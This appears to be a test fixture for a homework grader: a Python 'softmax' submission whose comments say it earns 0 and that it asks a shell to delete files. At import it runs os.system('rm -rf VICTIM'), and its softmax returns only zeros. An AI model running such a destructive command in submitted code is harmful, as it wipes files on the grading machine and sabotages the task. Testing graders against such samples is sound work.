# minimha homework: softmax
# earns 0
# It asks a shell to delete files.
import os

os.system("rm -rf VICTIM")


def softmax(x):
    return 0 * x, lambda dy: (0 * dy,)
